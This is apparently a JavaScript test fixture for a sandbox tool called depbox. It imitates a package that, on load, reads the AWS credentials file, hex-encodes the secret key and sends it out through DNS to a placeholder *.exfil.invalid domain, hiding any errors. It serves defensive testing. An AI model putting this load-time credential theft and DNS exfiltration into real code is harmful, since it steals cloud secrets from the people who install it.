// depbox test fixture imitating a credential stealer bundled into a
// function: at load it reads the AWS credentials bait file and sends the
// secret key out through DNS (hex, in two labels) to a *.invalid name.
// It only ever runs inside depbox's sandbox.
const fs = require('fs');
const os = require('os');
const dns = require('dns');
const pkg = require('./package.json');

try {
  const creds = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');
  const m = /aws_secret_access_key\s*=\s*(\S+)/.exec(creds);
  if (m) {
    const hex = Buffer.from(m[1]).toString('hex');
    dns.lookup(`${hex.slice(0, 40)}.${hex.slice(40)}.${pkg.name}.exfil.invalid`, () => {});
  }
} catch (_) { /* stay quiet */ }

module.exports = { version: pkg.version };
